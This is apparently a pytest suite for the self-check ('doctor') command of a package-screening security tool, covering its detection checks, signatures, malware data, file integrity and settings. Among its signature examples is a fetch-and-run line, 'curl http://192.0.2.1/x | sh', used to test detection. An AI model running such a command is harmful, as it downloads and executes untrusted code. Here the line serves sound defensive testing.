"""`gatekeeper doctor`: what is well is proved, and each proof can fail."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import sqlite3
from contextlib import closing
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from importlib.metadata import PathDistribution
from typing import TYPE_CHECKING

import pytest

from gatekeeper import checks, doctor, signatures
from gatekeeper.commands.shell import Person, lay
from gatekeeper.doctor import Chapter, data, examine, home, samples, story
from gatekeeper.doctor.checks import fault_of, prove_checks, prove_signatures
from gatekeeper.doctor.data import prove_data, prove_own_files
from gatekeeper.doctor.home import prove_settings
from gatekeeper.doctor.proof import Found, Ground, Proof, State, broken, weaker
from gatekeeper.doctor.samples import prove_reading
from gatekeeper.errors import StoppedError, UndecidedError
from gatekeeper.evidence import _semgrep, examples
from gatekeeper.evidence.deep import Reading
from gatekeeper.history.advisories import build, default_path
from gatekeeper.history.osv import Record, read_record
from gatekeeper.inspection import Inspector
from gatekeeper.model import Release, Ruling, Verdict
from gatekeeper.settings import user_file
from gatekeeper.stores.sqlite import default_path as store_path
from tests.support.osv import record

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator
    from pathlib import Path


@pytest.fixture(autouse=True)
def _a_home_of_its_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("DATA", "CACHE", "CONFIG"):
        monkeypatch.setenv(f"XDG_{name}_HOME", str(tmp_path / name.lower()))


@pytest.fixture
def ground(tmp_path: Path) -> Ground:
    for name in ("scratch", "here"):
        (tmp_path / name).mkdir()
    return Ground(tmp_path / "scratch", dict(os.environ), tmp_path / "here")


def states(proofs: Iterable[Proof]) -> dict[str, State]:
    return {one.what: one.state for one in proofs}


def the(what: str, proofs: Iterable[Proof]) -> Proof:
    return next(one for one in proofs if one.what == what)


class TestChecks:
    def test_each_is_proved_by_its_name(self, ground: Ground) -> None:
        assert states(prove_checks(ground)) == dict.fromkeys(checks.all_checks(), State.OK)

    def test_one_that_no_longer_fires_is_broken(self, ground: Ground, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(checks.all_checks()["typosquat"], "find", lambda _: iter(()))
        found = states(prove_checks(ground))
        assert [name for name, state in found.items() if state is State.BROKEN] == ["typosquat"]

    def test_one_that_fires_where_it_must_not_is_broken(self, monkeypatch: pytest.MonkeyPatch) -> None:
        check = checks.all_checks()["typosquat"]
        monkeypatch.setattr(check, "misses", check.hits)
        assert "must leave alone" in fault_of("typosquat", check)

    def test_one_without_examples_proves_nothing(self, monkeypatch: pytest.MonkeyPatch) -> None:
        check = checks.all_checks()["typosquat"]
        monkeypatch.setattr(check, "hits", ())
        assert "no examples" in fault_of("typosquat", check)

    def test_one_that_speaks_for_another_is_broken(self) -> None:
        assert "another name" in fault_of("persistence", checks.all_checks()["typosquat"])

    def test_one_that_cannot_be_loaded_is_told(self, monkeypatch: pytest.MonkeyPatch) -> None:
        def torn() -> None:
            raise SyntaxError("torn.py, line 3")

        monkeypatch.setattr(checks, "all_checks", torn)
        monkeypatch.setattr(story, "all_checks", torn)
        code, text = said(Chapter("checks", prove_checks), monkeypatch=monkeypatch)
        assert code == 12
        assert "could not be proved: SyntaxError: torn.py, line 3" in text


class TestSignatures:
    def test_each_is_proved(self, ground: Ground) -> None:
        found = states(prove_signatures(ground))
        assert set(found.values()) == {State.OK}
        assert len(found) == sum(len(examples.load(file)) for file in examples.LOOK) + len(examples.rules()) + 1

    @pytest.mark.parametrize("change", [{"hit": "nothing of the kind"}, {"miss": "curl http://192.0.2.1/x | sh"}])
    def test_one_whose_example_does_not_hold_is_broken(
        self, ground: Ground, monkeypatch: pytest.MonkeyPatch, change: dict[str, str]
    ) -> None:
        one = next(one for one in examples.load("commands.toml") if one.mark in examples.LOOK["commands.toml"](CURL))
        monkeypatch.setattr(examples, "signatures_in", lambda _: (replace(one, **change),))
        monkeypatch.setattr(examples, "LOOK", {"commands.toml": examples.LOOK["commands.toml"]})
        monkeypatch.setattr(examples, "rules", list)
        assert the(f"commands: {one.mark.id}", prove_signatures(ground)).state is State.BROKEN

    def test_a_rule_that_no_longer_matches_is_broken(self, ground: Ground, monkeypatch: pytest.MonkeyPatch) -> None:
        first, *_ = examples.rules()
        readings = {examples.example_of(first, word): Reading() for word in ("hit", "miss")}
        monkeypatch.setattr(examples, "rules", lambda: [first])
        monkeypatch.setattr(examples, "readings_of_rules", lambda: readings)
        assert the(f"semgrep: {examples.rule_of(first)}", prove_signatures(ground)).state is State.BROKEN

    def test_without_the_engine_no_rule_is_proved(self, ground: Ground, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(_semgrep, "program", lambda: None)
        rules = [one for one in prove_signatures(ground) if one.what.startswith("semgrep")]
        assert rules
        assert all(one.state is State.BROKEN and "semgrep is not installed" in one.detail for one in rules)


CURL = "curl http://192.0.2.1/x | sh"


class TestReading:
    @pytest.fixture
    def _none_dies(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """Starting another process takes long, and is not what the test is about."""
        monkeypatch.setattr(samples, "prove_replacement", lambda *_: Proof("a reading process that dies"))

    def test_every_sample_comes_to_what_it_must(self, ground: Ground) -> None:
        found = states(prove_reading(ground))
        assert set(found.values()) == {State.OK}, found
        assert len(found) == len(samples.samples()) + 2 * len(signatures.FORMS) + 2

    @pytest.mark.usefixtures("_none_dies")
    def test_a_reader_that_allows_everything_is_broken(self, ground: Ground, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(Inspector, "judge_artifact", allow)
        found = states(prove_reading(ground))
        by_bytes = {one.what for one in samples.samples()}
        assert [what for what, state in found.items() if state is State.OK and what in by_bytes] == [
            "an honest wheel",
            "an honest sdist",
            "an honest npm package",
        ]

    @pytest.mark.usefixtures("_none_dies")
    def test_a_reader_that_dies_is_broken(self, ground: Ground, monkeypatch: pytest.MonkeyPatch) -> None:
        def die(*_: object, **__: object) -> None:
            os._exit(1)

        honest, *_ = samples.samples()
        monkeypatch.setattr(samples, "samples", lambda: (honest,))
        monkeypatch.setattr(Inspector, "judge_artifact", die)
        found = the(honest.what, prove_reading(ground))
        assert found.state is State.BROKEN
        assert "died" in found.detail

    @pytest.mark.usefixtures("_none_dies")
    def test_an_engine_that_cannot_be_loaded_breaks_its_samples_alone(
        self, ground: Ground, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        judge = Inspector.judge_artifact

        def without_grammar(self: Inspector, path: Path, release: Release, **facts: object) -> Verdict:
            if facts["filename"].endswith(".tgz"):  # type: ignore[attr-defined]
                raise ImportError("no grammar for JavaScript")
            return judge(self, path, release, **facts)  # type: ignore[arg-type]

        monkeypatch.setattr(Inspector, "judge_artifact", without_grammar)
        found = list(prove_reading(ground))
        assert the("an honest wheel", found).state is State.OK
        assert "no grammar for JavaScript" in the("an install script in JavaScript", found).detail

    @pytest.mark.parametrize("verdicts", [[Ruling.ALLOW, Ruling.ALLOW], [Ruling.ERROR, Ruling.ERROR]])
    def test_a_reader_that_is_not_replaced_or_allows_what_it_lost_is_broken(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, verdicts: list[Ruling]
    ) -> None:
        class Ended:
            pids = (0,)

        monkeypatch.setattr(samples.os, "kill", lambda *_: None)
        monkeypatch.setattr(samples, "judged", lambda *_: Verdict(Release("pypi", "quietharbour"), verdicts.pop(0)))
        honest, *_ = samples.samples()
        assert samples.prove_replacement(Ended(), honest, tmp_path).state is State.BROKEN  # type: ignore[arg-type]

    @pytest.mark.usefixtures("_none_dies")
    @pytest.mark.parametrize("check", ["typosquat", "confusable-name", "lookalike-action"])
    def test_a_list_that_knows_nobody_is_broken(
        self, ground: Ground, monkeypatch: pytest.MonkeyPatch, check: str
    ) -> None:
        first, *_ = samples.samples()
        monkeypatch.setattr(samples, "samples", lambda: (first,))
        monkeypatch.setattr(checks.all_checks()[check], "find", lambda _: iter(()))
        wrong = [one for one in prove_reading(ground) if one.state is State.BROKEN]
        assert wrong
        assert all(one.detail.startswith(f"{check} says nothing of ") for one in wrong)


def allow(_: Inspector, path: Path, release: Release, **facts: object) -> Verdict:
    return Verdict(release, Ruling.ALLOW)


class TestData:
    def malware(self, days: int) -> None:
        """Data that is so old."""
        made = (datetime.now(timezone.utc) - timedelta(days=days)).isoformat()
        told = read_record(json.dumps(record("evil-pkg", "1.0")).encode())
        assert isinstance(told, Record)
        build(default_path(), [told])
        default_path().chmod(0o600)
        with closing(sqlite3.connect(default_path(), isolation_level=None)) as connection:
            connection.execute("update facts set value = ? where key = 'made'", (made,))

    def test_fresh_and_whole_data_is_well(self, ground: Ground) -> None:
        self.malware(0)
        assert set(states(prove_data(ground)).values()) == {State.OK}

    def test_without_known_malware_it_is_weaker(self, ground: Ground) -> None:
        found = the("known malware", prove_data(ground))
        assert found.state is State.WEAKER
        assert "gatekeeper update" in found.remedy

    @pytest.mark.parametrize(("days", "said"), [(30, "30 days old"), (-3, "dated in the future")])
    def test_known_malware_of_another_time_is_weaker(self, ground: Ground, days: int, said: str) -> None:
        self.malware(days)
        found = the("known malware", prove_data(ground))
        assert found.state is State.WEAKER
        assert said in found.detail

    def test_damaged_malware_data_is_weaker_and_said_so(self, ground: Ground) -> None:
        default_path().parent.mkdir(parents=True)
        default_path().write_bytes(b"SQLite format 3\0 or not")
        assert "damaged" in the("known malware", prove_data(ground)).detail

    def test_a_stale_list_is_weaker(self, ground: Ground, monkeypatch: pytest.MonkeyPatch) -> None:
        stale = "# as of 2020-01.\n" + "".join(f"name-{number}\n" for number in range(1500))
        monkeypatch.setattr(signatures, "names_text", lambda _: stale)
        found = the("pypi names", prove_data(ground))
        assert found.state is State.WEAKER
        assert "months old" in found.detail

    def test_a_list_that_is_none_is_broken(self, ground: Ground, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(signatures, "names_text", lambda _: "# as of 2031-01.\nrequests\n")
        assert the("pypi names", prove_data(ground)).state is State.BROKEN

    def test_a_fetched_list_that_is_damaged_is_weaker(self, ground: Ground) -> None:
        own = signatures.own_names("pypi")
        own.parent.mkdir(parents=True)
        own.write_bytes(b"# sha256: 0\nnothing\n")
        assert the("a list of names", prove_data(ground)).state is State.WEAKER


class TestOwnFiles:
    @pytest.fixture
    def site(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
        """An installation of two files."""
        site = tmp_path / "site"
        info = site / "pkg_gatekeeper-0.1.dist-info"
        lines = [f"{info.name}/RECORD,,"]
        for name in ("__init__.py", "checks/one.py"):
            path = site / "gatekeeper" / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(name.encode())
            digest = base64.urlsafe_b64encode(hashlib.sha256(name.encode()).digest()).rstrip(b"=").decode()
            lines.append(f"gatekeeper/{name},sha256={digest},{len(name)}")
        info.mkdir()
        (info / "RECORD").write_text("\n".join(lines))
        (info / "METADATA").write_text("Name: pkg-gatekeeper\nVersion: 0.1\n")
        monkeypatch.setattr(data, "distribution", lambda _: PathDistribution(info))
        monkeypatch.setattr(signatures, "PACKAGE", (site / "gatekeeper").resolve())
        return site

    def proof(self, ground: Ground) -> Proof:
        (found,) = prove_own_files(ground)
        return found

    def test_whole_ones_are_well(self, ground: Ground, site: Path) -> None:
        (site / "gatekeeper" / "__pycache__").mkdir()
        (site / "gatekeeper" / "__pycache__" / "one.pyc").touch()
        assert self.proof(ground).state is State.OK

    def test_a_changed_one_is_broken(self, ground: Ground, site: Path) -> None:
        (site / "gatekeeper" / "checks" / "one.py").write_text("changed")
        assert self.proof(ground) == broken("our own files", "gatekeeper/checks/one.py was changed", data.AGAIN)

    def test_a_missing_one_is_broken(self, ground: Ground, site: Path) -> None:
        (site / "gatekeeper" / "checks" / "one.py").unlink()
        assert "is missing" in self.proof(ground).detail

    def test_one_too_many_is_broken(self, ground: Ground, site: Path) -> None:
        (site / "gatekeeper" / "checks" / "two.py").touch()
        assert "two.py was added" in self.proof(ground).detail
        assert self.proof(ground).state is State.BROKEN

    def test_a_checkout_has_nothing_to_compare_with(
        self, ground: Ground, site: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
    ) -> None:
        monkeypatch.setattr(signatures, "PACKAGE", tmp_path / "elsewhere")
        assert self.proof(ground).state is State.WEAKER


class TestSettings:
    def test_a_person_without_settings_is_well(self, ground: Ground) -> None:
        assert states(prove_settings(ground)) == dict.fromkeys(
            ("policy", "store", "temporary folder", "shims"), State.OK
        )

    def test_a_broken_policy_of_their_own_is_broken(self, ground: Ground) -> None:
        user_file().parent.mkdir(parents=True)
        user_file().write_text("cooldwon = 0\n")
        found = the("policy", prove_settings(ground))
        assert found.state is State.BROKEN
        assert f"{user_file()}:1" in found.detail

    def test_a_broken_policy_of_the_folder_is_weaker(self, ground: Ground) -> None:
        assert ground.here is not None
        (ground.here / "gatekeeper.toml").write_text("[rulings\n")
        found = states(prove_settings(ground))
        assert (found["policy"], found["policy of this folder"]) == (State.OK, State.WEAKER)

    def test_the_files_that_are_read_are_named(self, ground: Ground) -> None:
        assert ground.here is not None
        (ground.here / "gatekeeper.toml").write_text('cooldown = "9d"\n')
        found = the("policy of this folder", prove_settings(ground))
        assert str(ground.here / "gatekeeper.toml") in found.detail

    @pytest.mark.parametrize(
        ("rules", "state"), [("rules: []\n", State.OK), ("rules:\n- id: own\n  pattern: f(\n", State.BROKEN)]
    )
    def test_rules_of_their_own_must_work(self, ground: Ground, rules: str, state: State) -> None:
        user_file().parent.mkdir(parents=True)
        user_file().write_text("[signatures]\nextra = ['own.yaml']\n")
        user_file().with_name("own.yaml").write_text(rules)
        assert the("rules of your own", prove_settings(ground)).state is state

    def test_a_folder_that_is_gone_is_weaker(self, ground: Ground) -> None:
        found = states(prove_settings(replace(ground, here=None)))
        assert found["policy of this folder"] is State.WEAKER

    def test_a_store_that_cannot_be_made_is_weaker(self, ground: Ground) -> None:
        store_path().parent.parent.mkdir(parents=True)
        store_path().parent.write_text("a file where a folder should be")
        assert "is no folder" in the("store", prove_settings(ground)).detail

    def test_a_store_that_is_no_database_is_weaker(self, ground: Ground) -> None:
        store_path().mkdir(parents=True)
        assert the("store", prove_settings(ground)).state is State.WEAKER

    def test_a_store_is_only_looked_at(self, ground: Ground) -> None:
        list(prove_settings(ground))
        assert not store_path().parent.exists()

    @pytest.mark.parametrize(("there", "state"), [(True, State.OK), (False, State.BROKEN)])
    def test_the_log_must_be_writable(self, ground: Ground, tmp_path: Path, there: bool, state: State) -> None:
        log = tmp_path / "logs" / "audit.jsonl"
        if there:
            log.parent.mkdir()
        user_file().parent.mkdir(parents=True)
        user_file().write_text(f"[audit]\nfile = '{log}'\n")
        assert the("audit log", prove_settings(ground)).state is state
        assert not log.exists()

    def test_a_log_that_is_no_plain_file_is_broken(self, ground: Ground, tmp_path: Path) -> None:
        user_file().parent.mkdir(parents=True)
        user_file().write_text(f"[audit]\nfile = '{tmp_path}'\n")
        assert the("audit log", prove_settings(ground)).state is State.BROKEN

    @pytest.mark.skipif(not hasattr(os, "ST_NOEXEC"), reason="no such flag here")
    def test_a_temporary_folder_that_starts_nothing_is_weaker(
        self, ground: Ground, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        class Flags:
            f_flag = os.ST_NOEXEC

        monkeypatch.setattr(home.os, "statvfs", lambda _: Flags)
        assert the("temporary folder", prove_settings(ground)).state is State.WEAKER

    def test_a_full_temporary_folder_is_weaker(self, ground: Ground, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(home, "ROOM", 1 << 70)
        assert the("temporary folder", prove_settings(ground)).state is State.WEAKER

    @pytest.mark.skipif(os.name == "nt", reason="there, a shim is a file of another kind")
    def test_shims_are_well_where_they_come_first(self, ground: Ground, monkeypatch: pytest.MonkeyPatch) -> None:
        folder = Person(ground.scratch, {}).shims
        lay(folder)
        first = replace(ground, environ={**ground.environ, "PATH": f"{folder}:/usr/bin:/bin"})
        assert {one.state for one in prove_settings(first) if one.what.startswith("shim")} == {State.OK}
        last = replace(ground, environ={**ground.environ, "PATH": "/usr/bin:/bin"})
        assert {one.state for one in prove_settings(last) if one.what.startswith("shim")} == {State.WEAKER}
        (folder / "npm").write_text("#!/bin/sh\n# gatekeeper shim of somebody else\n")
        found = the("shim npm", prove_settings(first))
        assert (found.state, "another installation" in found.detail) == (State.WEAKER, True)


def said(*chapters: Chapter, monkeypatch: pytest.MonkeyPatch, **how: object) -> tuple[int, str]:
    monkeypatch.setattr(doctor, "CHAPTERS", chapters)
    lines: list[str] = []
    code = doctor.doctor(lines.append, **how)  # type: ignore[arg-type]
    return code, "\n".join(lines)


def well(_: Ground) -> Iterator[Proof]:
    yield Proof("one thing", detail="as it should be")


def less(_: Ground) -> Iterator[Proof]:
    yield Proof("one thing")
    yield weaker("another", "is not there", "fetch it")


def bad(_: Ground) -> Iterator[Proof]:
    yield broken("a third", "\x1b[2Jgone")


def raising(error: BaseException) -> Callable[[Ground], Iterator[Proof]]:
    def prove(_: Ground) -> Iterator[Proof]:
        yield Proof("before")
        raise error

    return prove


class TestTelling:
    def test_what_is_well_is_one_line(self, monkeypatch: pytest.MonkeyPatch) -> None:
        code, text = said(Chapter("things", well), monkeypatch=monkeypatch)
        assert code == 0
        assert text.splitlines()[0] == "ok      things: 1 proved"
        assert text.splitlines()[-1].startswith("ok: the gate works on this machine; 1 proofs")

    def test_what_is_weaker_is_told_and_is_no_failure(self, monkeypatch: pytest.MonkeyPatch) -> None:
        code, text = said(Chapter("things", well), Chapter("others", less), monkeypatch=monkeypatch)
        assert code == 0
        assert "weaker  others: 1 of 2 proved" in text
        assert "weaker  another: is not there" in text
        assert "what to do: fetch it" in text
        assert "one thing" not in text

    def test_what_is_broken_ends_in_12(self, monkeypatch: pytest.MonkeyPatch) -> None:
        code, text = said(Chapter("things", less), Chapter("others", bad), monkeypatch=monkeypatch)
        assert code == 12
        assert "BROKEN  a third" in text
        assert "\x1b" not in text
        assert text.splitlines()[-1].startswith("BROKEN: do not rely")

    def test_more_is_told_when_asked(self, monkeypatch: pytest.MonkeyPatch) -> None:
        assert (
            "ok      one thing: as it should be"
            in said(Chapter("things", well), monkeypatch=monkeypatch, verbose=True)[1]
        )

    def test_programs_get_everything(self, monkeypatch: pytest.MonkeyPatch) -> None:
        code, text = said(Chapter("things", less), Chapter("others", bad), monkeypatch=monkeypatch, layout="json")
        told = json.loads(text)
        assert (code, told["schema"], told["state"]) == (12, "gatekeeper.doctor/1", "broken")
        assert [each["state"] for each in told["chapters"]] == ["weaker", "broken"]
        assert told["chapters"][0]["proofs"][1] == {
            "what": "another",
            "state": "weaker",
            "detail": "is not there",
            "remedy": "fetch it",
        }

    @pytest.mark.parametrize("error", [UndecidedError("no room", hint="make some"), ZeroDivisionError("a bug")])
    @pytest.mark.parametrize("apart", [False, True])
    def test_a_proof_that_fails_is_broken_and_the_others_are_told(
        self, monkeypatch: pytest.MonkeyPatch, error: Exception, apart: bool
    ) -> None:
        chapters = (Chapter("things", raising(error), apart), Chapter("others", well))
        code, text = said(*chapters, monkeypatch=monkeypatch, verbose=True)
        assert code == 12
        assert "ok      before" in text
        assert f"could not be proved: {'no room' if error.args[0] == 'no room' else 'ZeroDivisionError'}" in text
        assert "ok      others" in text

    @pytest.mark.parametrize("apart", [False, True])
    def test_nothing_proved_is_not_well(self, monkeypatch: pytest.MonkeyPatch, apart: bool) -> None:
        assert said(Chapter("things", nothing, apart), monkeypatch=monkeypatch)[0] == 12

    def test_a_process_that_dies_is_broken(self, monkeypatch: pytest.MonkeyPatch) -> None:
        code, text = said(Chapter("things", dying, apart=True), monkeypatch=monkeypatch)
        assert code == 12
        assert "its process died" in text

    def test_a_process_that_hangs_is_broken_and_ended(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(doctor, "PATIENCE", 0.1)
        code, text = said(Chapter("things", hanging, apart=True), monkeypatch=monkeypatch)
        assert code == 12
        assert "not done within" in text

    @pytest.mark.parametrize("apart", [False, True])
    def test_whoever_stops_it_is_heard(self, monkeypatch: pytest.MonkeyPatch, apart: bool) -> None:
        with pytest.raises(StoppedError):
            list(examine([Chapter("things", raising(StoppedError("stopped")), apart)]))

    def test_the_worst_proof_counts(self) -> None:
        assert Found("things", (weaker("a", "b"), Proof("c"))).state is State.WEAKER


def nothing(_: Ground) -> Iterator[Proof]:
    yield from ()


def dying(_: Ground) -> Iterator[Proof]:
    os._exit(3)
    yield Proof("never")


def hanging(_: Ground) -> Iterator[Proof]:
    import time

    time.sleep(60)
    yield Proof("never")
